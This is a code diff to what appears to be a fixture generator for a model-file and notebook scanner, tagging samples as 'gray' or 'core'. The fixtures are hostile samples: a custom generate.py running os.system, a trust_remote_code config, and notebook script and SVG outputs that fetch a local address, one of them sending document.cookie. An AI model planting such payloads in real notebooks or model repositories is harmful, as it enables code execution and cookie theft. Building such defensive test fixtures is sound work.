@@ -70,6 +70,7 @@ def hugging_face(chance: Random) -> Made:
     yield (
         "generation/custom_generate/generate.py",
         b"import os\ndef generate(model, **k):\n    os.system('echo pwned')\n",
+        "gray",
     )
     yield "trust-remote-code/config.json", compact({**config, "trust_remote_code": True}), "gray"
     yield "attn-kernel/config.json", compact({**config, "_attn_implementation": "pwned/kernels"}), "gray"
@@ -311,7 +312,11 @@ def notebooks(_: Random) -> Made:
         "metadata": {},
         "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/?c='+document.cookie)</script>"]},
     }
-    yield "output-script.ipynb", notebook([code("x", outputs=[script])])
+    yield (
+        "output-script.ipynb",
+        notebook([code("x", outputs=[script])]),
+        "gray",
+    )  # shown only where the notebook is trusted
     javascript = {
         "output_type": "display_data",
         "metadata": {},
@@ -325,7 +330,11 @@ def notebooks(_: Random) -> Made:
         "metadata": {},
         "data": {"image/svg+xml": "<svg onload=\"fetch('http://127.0.0.1:9')\"/>"},
     }
-    yield "output-svg.ipynb", notebook([code("x", outputs=[svg])])
+    yield (
+        "output-svg.ipynb",
+        notebook([code("x", outputs=[svg])]),
+        "gray",
+    )  # shown only where the notebook is trusted
     yield (
         "markdown-handler.ipynb",
         notebook(
@@ -470,7 +479,8 @@ def packages(chance: Random) -> Made:
     }  # fmt: skip
     for label, schema in schemas.items():
         whole = {**schema, "protocol": 2, "_skops_version": "0.11"}
-        yield f"{label}.skops", zip_([Member("schema.json", compact(whole))])
+        harmless = label in ("json-loader-lie", "object-file")  # told as what skops then does not do
+        yield f"{label}.skops", zip_([Member("schema.json", compact(whole))]), "gray" if harmless else "core"
     yield (
         "pickle-along.skops",
         zip_(
